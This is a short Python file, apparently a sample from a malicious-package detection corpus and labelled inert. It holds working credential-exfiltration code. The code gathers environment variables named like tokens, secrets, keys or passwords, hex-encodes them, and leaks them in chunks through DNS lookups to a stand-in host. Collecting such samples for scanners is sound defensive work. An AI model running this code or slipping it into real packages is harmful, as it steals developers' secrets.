# pkgguard corpus 378 (credentials), modelled on [ctx]; inert, never run.
import os
import socket

found = {k: v for k, v in os.environ.items() if any(w in k for w in ("TOKEN", "SECRET", "KEY", "PASS"))}
blob = "&".join(f"{k}={v}" for k, v in found.items()).encode().hex()
for i in range(0, len(blob), 60):
    try:
        socket.gethostbyname(f"{blob[i:i + 60]}.{i // 60}.e.example")
    except OSError:
        pass
